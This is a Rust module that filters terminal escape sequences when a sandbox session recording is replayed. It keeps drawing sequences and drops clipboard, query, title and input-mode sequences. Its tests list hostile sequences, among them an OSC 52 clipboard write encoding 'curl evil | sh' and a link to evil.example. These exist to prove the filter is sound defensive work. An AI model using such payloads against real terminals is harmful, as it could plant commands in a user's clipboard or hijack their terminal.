//! What a replay may send to the viewer's terminal. A recording is a sandbox's
//! output, and the viewer is its owner or an admin: the replay must look like the
//! session (colours, cursor movement, the alternate screen) without letting the
//! recording act on the viewer's terminal beyond drawing on it.
//!
//! Recorded text goes through a real VT parser ([`vte`], the state machine of
//! vt100.net's DEC parser) and is written again from what it parsed, keeping only
//! an allow-list: printable characters, a few C0 controls, SGR, cursor movement,
//! erasing and scrolling, and the modes a full-screen program draws with. Dropped:
//! every OSC (clipboard writes with 52, window titles, hyperlinks with 8, palette
//! changes and queries), every DCS, SOS, PM and APC string (DECRQSS, XTGETTCAP,
//! sixels), every sequence that makes a terminal answer or changes how it reads
//! keys (DA, DSR, window reports `CSI t`, DECRQM, ENQ, DECID, mouse and paste
//! modes), and erasing the viewer's scrollback (`CSI 3 J`); repeats are bounded. A sequence cut between two events is held by the parser until it ends,
//! so what is sent is always whole: the viewer's terminal never sits inside a
//! sequence the next chunk could finish.

use std::fmt::Write as _;

use vte::{Params, Parser, Perform};

use crate::escape::is_control;

/// A replay's filter: feed it each output event, in order.
#[derive(Default)]
pub struct ReplayFilter {
    parser: Parser,
    out: Rewriter,
}

impl ReplayFilter {
    /// What of `text` may reach the viewer.
    pub fn feed(&mut self, text: &str) -> String {
        self.parser.advance(&mut self.out, text.as_bytes());
        std::mem::take(&mut self.out.text)
    }

    /// Sequences that undo what the replay left set (colours, a hidden cursor, the
    /// alternate screen, a scroll region, a character set), for after its end.
    pub fn reset(&self) -> String {
        let set = &self.out.set;
        let mut text = String::from("\x1b[0m\x1b[?25h");
        for (left_set, undo) in [
            (set.alternate_screen, "\x1b[?1049l"),
            (set.scroll_region, "\x1b[r"),
            (set.origin_mode, "\x1b[?6l"),
            (set.no_autowrap, "\x1b[?7h"),
            (set.insert_mode, "\x1b[4l"),
            (set.charsets, "\x1b(B\x1b)B\x0f"),
            (set.synchronized_output, "\x1b[?2026l"),
        ] {
            // Only what was set: DECSTBM and DECOM also move the cursor.
            if left_set {
                text.push_str(undo);
            }
        }
        text
    }
}

/// What the recording set that outlives it on the viewer's terminal.
#[derive(Default)]
struct Set {
    alternate_screen: bool,
    scroll_region: bool,
    origin_mode: bool,
    no_autowrap: bool,
    insert_mode: bool,
    charsets: bool,
    /// Left on, the viewer's terminal would stop drawing what follows.
    synchronized_output: bool,
}

#[derive(Default)]
struct Rewriter {
    text: String,
    set: Set,
}

/// DEC private modes a replay may set or reset: origin (6), autowrap (7), cursor
/// blink (12) and visibility (25), the alternate screen (47, 1047-1049) and
/// synchronized output (2026). Not mouse, focus or paste reporting, nor cursor-key
/// modes: those change what the viewer's terminal sends after the replay.
const DEC_MODES: [u16; 9] = [6, 7, 12, 25, 47, 1047, 1048, 1049, 2026];

/// The most a repeat (REP, `CSI n b`) may draw: a wide line.
const MAX_REPEAT: u16 = 1024;

impl Rewriter {
    fn csi(&mut self, private: &str, params: &[Vec<u16>], action: char) {
        self.text.push_str("\x1b[");
        self.text.push_str(private);
        // A lone 0 is the default: written as nothing, as programs do.
        if !(params.len() == 1 && params[0] == [0]) {
            for (i, param) in params.iter().enumerate() {
                if i > 0 {
                    self.text.push(';');
                }
                for (j, sub) in param.iter().enumerate() {
                    if j > 0 {
                        self.text.push(':');
                    }
                    // Writing into a String cannot fail.
                    let _ = write!(self.text, "{sub}");
                }
            }
        }
        self.text.push(action);
    }

    /// `CSI ? … h/l`: the allowed modes, noting what stays set.
    fn dec_modes(&mut self, params: Vec<Vec<u16>>, on: bool, action: char) {
        let kept: Vec<Vec<u16>> = params
            .into_iter()
            .filter(|p| p.len() == 1 && DEC_MODES.contains(&p[0]))
            .collect();
        for p in &kept {
            match p[0] {
                6 => self.set.origin_mode = on,
                7 => self.set.no_autowrap = !on,
                47 | 1047 | 1049 => self.set.alternate_screen = on,
                2026 => self.set.synchronized_output = on,
                _ => {}
            }
        }
        if !kept.is_empty() {
            self.csi("?", &kept, action);
        }
    }
}

impl Perform for Rewriter {
    fn print(&mut self, c: char) {
        // DEL and C1 controls arrive here as characters.
        if !is_control(c) {
            self.text.push(c);
        }
    }

    fn execute(&mut self, byte: u8) {
        match byte {
            // BEL, BS, HT, LF, VT, FF, CR.
            0x07..=0x0d => self.text.push(char::from(byte)),
            // SO, SI: the G1 and G0 character sets (line drawing).
            0x0e | 0x0f => {
                self.set.charsets = true;
                self.text.push(char::from(byte));
            }
            // NUL, ENQ (answerback: the terminal replies), C1 controls and the rest.
            _ => {}
        }
    }

    fn csi_dispatch(&mut self, params: &Params, intermediates: &[u8], ignore: bool, action: char) {
        if ignore {
            return;
        }
        let params: Vec<Vec<u16>> = params.iter().map(<[u16]>::to_vec).collect();
        match (intermediates, action) {
            // SGR: colours and attributes.
            ([], 'm')
            // Cursor movement and tab stops.
            | ([], 'A' | 'B' | 'C' | 'D' | 'E' | 'F' | 'G' | 'H' | 'f' | 'd' | 'e' | 'a' | '`')
            | ([], 'I' | 'Z' | 'g' | 's' | 'u')
            // Erasing, inserting and deleting, scrolling.
            | ([], 'K' | 'X' | 'P' | '@' | 'L' | 'M' | 'S')
            | ([b'?'], 'K') => {
                let private = if intermediates.is_empty() { "" } else { "?" };
                self.csi(private, &params, action);
            }
            // ED and DECSED, but not 3 (xterm's "erase saved lines"): the viewer's
            // scrollback is not the recording's to erase.
            ([] | [b'?'], 'J') if params.iter().all(|p| p.as_slice() != [3]) => {
                let private = if intermediates.is_empty() { "" } else { "?" };
                self.csi(private, &params, action);
            }
            // REP, its count bounded: a few bytes must not draw millions of cells.
            ([], 'b') if params.len() == 1 && params[0].len() == 1 => {
                let count = params[0][0].min(MAX_REPEAT);
                self.csi("", &[vec![count]], action);
            }
            // SD; with more parameters `T` starts xterm's mouse highlight tracking.
            ([], 'T') if params.len() == 1 => self.csi("", &params, action),
            ([], 'r') => {
                self.set.scroll_region = true;
                self.csi("", &params, action);
            }
            // Insert mode (4) alone among the ANSI modes.
            ([], 'h' | 'l') if params.iter().all(|p| p.as_slice() == [4]) => {
                self.set.insert_mode = action == 'h';
                self.csi("", &params, action);
            }
            ([b'?'], 'h' | 'l') => self.dec_modes(params, action == 'h', action),
            // Everything else: device attributes and status reports (c, n), window
            // operations and reports (t), DECREQTPARM (x), printing (i), DECRQM
            // (`$p`), XTVERSION (`>q`), key-encoding modes (`>m`, `>u`), DECSTR,
            // cursor styles, and what this list does not know.
            _ => {}
        }
    }

    fn esc_dispatch(&mut self, intermediates: &[u8], ignore: bool, byte: u8) {
        if ignore {
            return;
        }
        match (intermediates, byte) {
            // DECSC, DECRC, IND, NEL, RI, HTS.
            ([], b'7' | b'8' | b'D' | b'E' | b'M' | b'H') => {
                self.text.push('\x1b');
                self.text.push(char::from(byte));
            }
            // G0-G3 as ASCII, DEC line drawing or UK.
            ([set @ (b'(' | b')' | b'*' | b'+')], b'B' | b'0' | b'A') => {
                self.set.charsets = true;
                self.text.push('\x1b');
                self.text.push(char::from(*set));
                self.text.push(char::from(byte));
            }
            // RIS, DECID (a query), keypad modes, single shifts, a lone ST, DECALN…
            _ => {}
        }
    }

    // OSC, DCS (hook, put, unhook): nothing is written. SOS, PM and APC strings
    // never reach a performer.
    fn osc_dispatch(&mut self, _params: &[&[u8]], _bell_terminated: bool) {}
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    /// The filter's output for `text` fed whole, and cut at every place into two
    /// and three pieces: the same each time.
    fn filtered(text: &str) -> String {
        let whole = ReplayFilter::default().feed(text);
        let bytes = text.as_bytes();
        let cut = |pieces: &[&[u8]]| {
            let mut f = ReplayFilter::default();
            let mut out = String::new();
            for piece in pieces {
                // Events are text: a cut inside a character does not happen, but
                // the parser is fed bytes and holds what it has.
                f.parser.advance(&mut f.out, piece);
                out.push_str(&std::mem::take(&mut f.out.text));
            }
            out
        };
        for i in 0..=bytes.len() {
            assert_eq!(cut(&[&bytes[..i], &bytes[i..]]), whole, "cut at {i}");
            for j in i..=bytes.len().min(i + 8) {
                assert_eq!(
                    cut(&[&bytes[..i], &bytes[i..j], &bytes[j..]]),
                    whole,
                    "cut at {i} and {j}"
                );
            }
        }
        whole
    }

    #[test]
    fn colours_and_cursor_movement_are_kept() {
        let text = "\x1b[1;31mred\x1b[0m \x1b[38;2;1;2;3mrgb\x1b[38:5:208m\x1b[m\r\n\
                    \x1b[2J\x1b[H\x1b[10;20Hx\x1b[3A\x1b[K\x1b[?25l\x1b[?1049h\x1b(0q\x1b(B\
                    \x1b7\x1b8\x1b[5;20r\x1bM\tsnow ☃\x08\x07";
        assert_eq!(filtered(text), text.replace("\x1b[0m", "\x1b[m"));
    }

    #[test]
    fn what_acts_on_the_viewers_terminal_is_dropped() {
        let hostile = [
            // OSC 52: the clipboard, ended by BEL and by ST.
            "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
            "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\",
            // Titles, and the report that would type one back.
            "\x1b]0;owned\x07",
            "\x1b]2;owned\x1b\\",
            "\x1b[21t",
            "\x1b[14t",
            "\x1b[8;100;300t",
            // Hyperlinks (the text stays), palette changes and queries.
            "\x1b]8;;https://evil.example/\x1b\\",
            "\x1b]4;1;?\x07",
            "\x1b]11;rgb:0000/0000/0000\x07",
            // DCS: DECRQSS, XTGETTCAP, tmux passthrough; APC, PM, SOS.
            "\x1bP$qm\x1b\\",
            "\x1bP+q544e\x1b\\",
            "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
            "\x1b_Gf=100;AAAA\x1b\\",
            "\x1b^private\x1b\\",
            "\x1bXsos\x1b\\",
            // Device attributes, status reports, DECRQM, XTVERSION, DECID, ENQ.
            "\x1b[c",
            "\x1b[>c",
            "\x1b[=c",
            "\x1b[5n",
            "\x1b[6n",
            "\x1b[?6n",
            "\x1b[?2004$p",
            "\x1b[>0q",
            "\x1bZ",
            "\x05",
            // Mouse, focus and paste reporting; cursor keys; keyboard protocols.
            "\x1b[?1000h",
            "\x1b[?1006;1015h",
            "\x1b[?1004h",
            "\x1b[?2004h",
            "\x1b[?1h",
            "\x1b[>4;2m",
            "\x1b[>1u",
            // Printing, a full reset, DEL, NUL.
            "\x1b[5i",
            "\x1bc",
            "\x7f\0",
        ];
        for seq in hostile {
            let text = format!("a{seq}b");
            assert_eq!(filtered(&text), "ab", "{seq:?}");
        }
        // 8-bit controls (as characters) are dropped; what followed them is text.
        assert_eq!(filtered("a\u{9b}6nb"), "a6nb");
        assert_eq!(filtered("a\u{9d}52;c;eA==\u{9c}b"), "a52;c;eA==b");
        // Allowed and refused modes in one sequence: only the allowed pass.
        assert_eq!(filtered("\x1b[?1000;25;2004h"), "\x1b[?25h");
        // The viewer's scrollback stays; a repeat is bounded.
        assert_eq!(filtered("a\x1b[3Jb\x1b[2J"), "ab\x1b[2J");
        assert_eq!(filtered("a\x1b[?3Jb\x1b[?2J"), "ab\x1b[?2J");
        assert_eq!(filtered("x\x1b[65535b\x1b[5b"), "x\x1b[1024b\x1b[5b");
    }

    #[test]
    fn what_the_recording_left_set_is_reset() {
        let mut f = ReplayFilter::default();
        f.feed("\x1b[?1049h\x1b[?7l\x1b[2;10r\x1b(0\x1b[31m\x1b[?2026h");
        let reset = f.reset();
        for seq in [
            "\x1b[?2026l",
            "\x1b[0m",
            "\x1b[?25h",
            "\x1b[?1049l",
            "\x1b[r",
            "\x1b[?7h",
            "\x1b(B",
        ] {
            assert!(reset.contains(seq), "{reset:?} lacks {seq:?}");
        }
        let plain = ReplayFilter::default().reset();
        assert_eq!(plain, "\x1b[0m\x1b[?25h");
    }
}
